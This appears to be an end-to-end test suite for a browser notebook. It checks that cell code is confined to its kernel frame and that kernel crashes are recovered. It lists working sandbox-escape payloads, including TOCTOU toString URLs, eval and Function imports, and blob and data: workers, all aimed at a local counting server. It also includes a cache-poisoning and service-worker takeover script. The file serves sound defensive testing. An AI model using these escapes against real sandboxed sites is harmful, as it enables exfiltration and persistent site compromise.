// Cell code against the site: every way off the site it tries makes no request (counted at a second server), and nothing of it reaches the page's storage, caches or service worker.
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { chromium, type Browser, type Page } from 'playwright-core';
import { launch, type Session } from './browser';
import { kernelReady, noticeTexts, replaceSource } from './faultKit';
import { cellOf } from './profiles';

const scratch = '25-recap';

/** A server on another port (so another origin) that counts every request and WebSocket upgrade it gets. */
async function countingServer(): Promise<{ origin: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
    res.end('globalThis.__reached = true; export const reached = true;');
  });
  server.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (!address || typeof address === 'string') throw new Error('no port');
  return {
    origin: `http://127.0.0.1:${address.port}`,
    hits,
    close: () => new Promise<void>((done) => {
      server.closeAllConnections();
      server.close(() => done());
    }),
  };
}

async function runCode(page: Page, code: string): Promise<{ status: string | null; text: string }> {
  const cell = cellOf(page, scratch);
  await cell.locator('.cm-content').click();
  await page.keyboard.press('Control+A');
  await page.keyboard.insertText(code);
  await cell.getByRole('button', { name: 'Run cell' }).click();
  await page.waitForFunction((id) => ['done', 'error'].includes(document.querySelector(`[data-cell="${id}"]`)?.getAttribute('data-cell-status') ?? ''), scratch, { timeout: 60_000 });
  return { status: await cell.getAttribute('data-cell-status'), text: (await cell.locator('.outputs').textContent()) ?? '' };
}

/**
 * Each bypass of the kernel's JS guard found by the probe, as cell code; `E` is the counting
 * server's origin. Each is tried in its own try/catch, and what happened is printed.
 */
const bypasses = (E: string): Record<string, string> => ({
  'duck-typed URL for fetch': `await fetch({ toString: () => '${E}/duck-fetch' } as unknown as string)`,
  'TOCTOU toString for fetch': `let n = 0; await fetch({ toString: () => (n++ === 0 ? location.href : '${E}/toctou-fetch') } as unknown as string)`,
  'TOCTOU toString for XHR': `let n = 0; const x = new XMLHttpRequest(); x.open('GET', { toString: () => (n++ === 0 ? location.href : '${E}/toctou-xhr') } as unknown as string); x.send(); await new Promise((r) => { x.onloadend = r; })`,
  'TOCTOU toString for Worker': `let n = 0; new Worker({ toString: () => (n++ === 0 ? location.href : '${E}/toctou-worker.js') } as unknown as string); await new Promise((r) => setTimeout(r, 300))`,
  'import() through indirect eval': `await (0, eval)('import("${E}/eval-import.js")')`,
  'import() through Function': `await new Function('return import("${E}/function-import.js")')()`,
  'object URL for XHR': `const x = new XMLHttpRequest(); x.open('GET', URL.createObjectURL(new Blob(['x']))); x.send(); await new Promise((r) => { x.onloadend = r; }); await fetch('${E}/after-blob-xhr')`,
  'object URL for a Worker': `let n = 0; const url = URL.createObjectURL(new Blob(["fetch('${E}/blob-worker'); import('${E}/blob-worker-import.js')"])); new Worker({ toString: () => (n++ === 0 ? location.href : url) } as unknown as string); await new Promise((r) => setTimeout(r, 500))`,
  'navigator.sendBeacon': `(navigator as unknown as { sendBeacon(u: string): boolean }).sendBeacon('${E}/beacon')`,
  'EventSource': `let n = 0; const s = new EventSource({ toString: () => (n++ === 0 ? location.href : '${E}/event-source') } as unknown as string); await new Promise((r) => setTimeout(r, 300)); s.close()`,
  'WebSocket': `let n = 0; const w = new WebSocket({ toString: () => (n++ === 0 ? location.href.replace(/^blob:/, '').replace(/^http/, 'ws') : '${E.replace('http', 'ws')}/socket') } as unknown as string); await new Promise((r) => setTimeout(r, 300)); w.close()`,
  'a Request object': `await fetch(new Request('${E}/request'))`,
  'a nested worker from a data: URL': `new Worker('data:text/javascript,' + encodeURIComponent("fetch('${E}/data-worker')")); await new Promise((r) => setTimeout(r, 300))`,
});

describe('cell code confined to the kernel frame', () => {
  let session: Session;
  let evil: Awaited<ReturnType<typeof countingServer>>;
  beforeAll(async () => {
    evil = await countingServer();
    session = await launch(inject('siteOrigin'));
    await session.page.goto(inject('siteUrl'));
    await cellOf(session.page, scratch).locator('.cm-content').waitFor();
  });
  afterAll(async () => {
    await session?.close();
    await evil?.close();
  });

  it.each(Object.keys(bypasses('')))('%s: no request reaches another site, and the kernel runs the next cell', async (name) => {
    const { page } = session;
    evil.hits.length = 0;
    const code = bypasses(evil.origin)[name];
    const run = await runCode(page, `try {\n${code}\n} catch (e) { print('refused:', String(e)); }\nawait new Promise((r) => setTimeout(r, 500));\nprint('over')`);
    console.log(`[bypass] ${name}: ${run.text.replace(/\s+/g, ' ').slice(0, 200)} | hits: ${evil.hits.join(', ')}`);
    expect(run.text).toContain('over');
    expect(evil.hits).toEqual([]);
    expect(await page.evaluate(() => (globalThis as { __reached?: boolean }).__reached)).toBeUndefined();
    expect(await runCode(page, '6 * 7')).toEqual({ status: 'done', text: '42' });
  });
});

describe('a cell that tries to take the site over', () => {
  it("reaches none of the site's caches, storage, databases or service worker: after a reload nothing of it runs in the page", { timeout: 300_000 }, async () => {
    const session = await launch(inject('siteOrigin'));
    try {
      const { page } = session;
      await page.goto(inject('siteUrl'));
      await expect(page.getByTestId('update-prompt').textContent({ timeout: 60_000 })).resolves.toContain('Ready to work offline');
      await kernelReady(page);
      const takeover = [
        "const tried: string[] = [];",
        "const attempt = async (what: string, f: () => unknown) => { try { await f(); tried.push(what + ': done'); } catch (e) { tried.push(what + ': ' + String(e)); } };",
        "const poison = 'window.__pwned = 1;';",
        "await attempt('rewrite every cached script', async () => { for (const name of await caches.keys()) { const cache = await caches.open(name); for (const request of await cache.keys()) if (request.url.endsWith('.js')) await cache.put(request, new Response(poison + await (await cache.match(request))!.text(), { headers: { 'content-type': 'text/javascript' } })); } });",
        "await attempt('register a service worker', () => (navigator as unknown as { serviceWorker: ServiceWorkerContainer }).serviceWorker.register(URL.createObjectURL(new Blob([poison]))));",
        "await attempt('write the saved edits', () => { (globalThis as unknown as { localStorage: Storage }).localStorage.setItem('cell-was-here', '1'); });",
        "await attempt('open a database', () => new Promise((ok, fail) => { const r = indexedDB.open('cell-was-here'); r.onsuccess = ok; r.onerror = () => fail(r.error); }));",
        "await attempt('read the cookie', () => { const c = (globalThis as unknown as { document: Document }).document.cookie; if (c === undefined) throw new Error('no document'); });",
        "print(tried.join('\\n'));",
      ].join('\n');
      const run = await runCode(page, takeover);
      console.log(`[takeover] ${run.text}`);
      expect(run.text).not.toMatch(/: done/);
      await page.reload();
      await kernelReady(page);
      await page.waitForTimeout(1000);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
      const site = await page.evaluate(async () => {
        let poisoned = 0;
        for (const name of await caches.keys()) {
          const cache = await caches.open(name);
          for (const request of await cache.keys()) if ((await (await cache.match(request))?.text())?.includes('window.__pwned')) poisoned++;
        }
        const registrations = (await navigator.serviceWorker.getRegistrations()).map((r) => (r.active ?? r.waiting ?? r.installing)?.scriptURL ?? '');
        const databases = (await indexedDB.databases()).map((d) => d.name);
        return { poisoned, registrations, databases };
      });
      expect(site.poisoned).toBe(0);
      expect(site.registrations).toEqual([expect.stringMatching(/\/sw\.js$/)]);
      expect(site.databases).not.toContain('cell-was-here');
      expect(await page.evaluate(() => localStorage.getItem('cell-was-here'))).toBeNull();
      expect(session.consoleErrors).toEqual([]);
    } finally {
      await session.close();
    }
  });
});

/** A free port on this machine, for the browser's DevTools endpoint. */
async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  await new Promise<void>((done) => server.close(() => done()));
  if (!address || typeof address === 'string') throw new Error('no port');
  return address.port;
}

/** Types `code` into the cell `id` and presses its Run button (no waiting). */
async function startCell(page: Page, id: string, code: string): Promise<void> {
  await cellOf(page, id).scrollIntoViewIfNeeded();
  await replaceSource(page, id, code);
  await cellOf(page, id).getByRole('button', { name: 'Run cell' }).click();
}

/** Runs the cell below the scratch one with a sum whose answer is known (1 + 4 + 9), on a page that must have stayed whole. */
async function cellBelowRuns(page: Page, cellsBefore: number): Promise<void> {
  await kernelReady(page);
  const below = '27-whole-matrix';
  await startCell(page, below, '[1, 2, 3].map((x) => x * x).reduce((a, b) => a + b)');
  await page.waitForFunction((id) => ['done', 'error'].includes(document.querySelector(`[data-cell="${id}"]`)?.getAttribute('data-cell-status') ?? ''), below, { timeout: 60_000 });
  expect(await cellOf(page, below).getAttribute('data-cell-status')).toBe('done');
  expect(await cellOf(page, below).locator('.outputs').textContent()).toBe('14');
  expect(await page.locator('[data-cell]').count()).toBe(cellsBefore);
  expect(await page.locator('iframe[data-kernel-frame]').count()).toBe(1);
}

const stoppedNotice = /^The kernel stopped: the browser ended it, most likely because it ran out of memory .*a new kernel has started\.$/;

describe('a kernel the browser ends', () => {
  it('a cell busy for 8 s is not taken for dead; the kernel frame gone while a cell runs: within 10 s the cell ends in error saying so, a new kernel runs the cell below, the page stays whole', { timeout: 300_000 }, async () => {
    const session = await launch(inject('siteOrigin'));
    try {
      const { page } = session;
      await page.goto(inject('siteUrl'));
      await kernelReady(page);
      const cells = await page.locator('[data-cell]').count();
      expect(await runCode(page, 'const t0 = Date.now(); while (Date.now() - t0 < 8000) {}\n"still here"')).toEqual({ status: 'done', text: 'still here' });

      await startCell(page, scratch, 'for (;;) {}');
      await expect.poll(() => cellOf(page, scratch).getAttribute('data-cell-status')).toBe('running');
      await page.waitForTimeout(500);
      const gone = Date.now();
      // What a frame the browser ended looks like from the page: it stops answering.
      await page.evaluate(() => document.querySelector('iframe[data-kernel-frame]')?.remove());
      await page.waitForFunction((id) => document.querySelector(`[data-cell="${id}"]`)?.getAttribute('data-cell-status') !== 'running', scratch, { timeout: 30_000 });
      const noticedMs = Date.now() - gone;
      console.log(`[kernel death] the cell ended ${noticedMs} ms after its frame went`);
      expect(await cellOf(page, scratch).getAttribute('data-cell-status')).toBe('error');
      expect(noticedMs).toBeLessThan(10_000);
      expect(await cellOf(page, scratch).textContent()).toContain('The kernel stopped while this cell ran: its state was lost');
      expect(await noticeTexts(page)).toContainEqual(expect.stringMatching(stoppedNotice));
      await cellBelowRuns(page, cells);
      expect(session.consoleErrors).toEqual([]);
    } finally {
      await session.close();
    }
  });

  it('a cell that allocates until the browser ends it (out of memory): within 10 s of the crash the cell ends in error saying so, a new kernel runs the cell below, the page stays whole', { timeout: 300_000 }, async () => {
    const port = await freePort();
    const session = await launch(inject('siteOrigin'), { extraArgs: [`--remote-debugging-port=${port}`] });
    let again: Browser | null = null;
    try {
      const { page } = session;
      await page.goto(inject('siteUrl'));
      await kernelReady(page);
      const cells = await page.locator('[data-cell]').count();
      // The page notes when the cell stops running, by its own clock (this one is the same machine's).
      await page.evaluate((id) => {
        const cell = document.querySelector(`[data-cell="${id}"]`);
        new MutationObserver(() => {
          if (cell?.getAttribute('data-cell-status') === 'error') (window as unknown as { endedAt?: number }).endedAt ??= Date.now();
        }).observe(cell as Element, { attributes: true, attributeFilter: ['data-cell-status'] });
      }, scratch);
      let crashedAt = 0;
      // The kernel frame has a process of its own: the browser ends that one. The driver takes the
      // crash of any frame of the page for the page's and answers no more, so the rest goes through
      // a second connection, made once the page removed the dead frame.
      page.on('crash', () => (crashedAt = Date.now()));
      await startCell(page, scratch, 'const a = []; for (;;) a.push(new Array(1e6).fill(1))');
      await expect.poll(() => crashedAt, { timeout: 120_000, interval: 200 }).toBeGreaterThan(0);
      await new Promise((resolve) => setTimeout(resolve, 12_000));
      again = await chromium.connectOverCDP(`http://127.0.0.1:${port}`);
      const alive = again.contexts()[0].pages().find((p) => p.url().startsWith(inject('siteUrl')));
      if (!alive) throw new Error('the page is gone');
      expect(await cellOf(alive, scratch).getAttribute('data-cell-status')).toBe('error');
      const endedAt = await alive.evaluate(() => (window as unknown as { endedAt?: number }).endedAt ?? 0);
      console.log(`[kernel death] out of memory: the cell ended ${endedAt - crashedAt} ms after the frame's process crashed`);
      expect(endedAt - crashedAt).toBeLessThan(10_000);
      expect(await cellOf(alive, scratch).textContent()).toContain('The kernel stopped while this cell ran: its state was lost');
      expect(await noticeTexts(alive)).toContainEqual(expect.stringMatching(stoppedNotice));
      await cellBelowRuns(alive, cells);
    } finally {
      await again?.close().catch(() => undefined);
      await session.close();
    }
  });
});
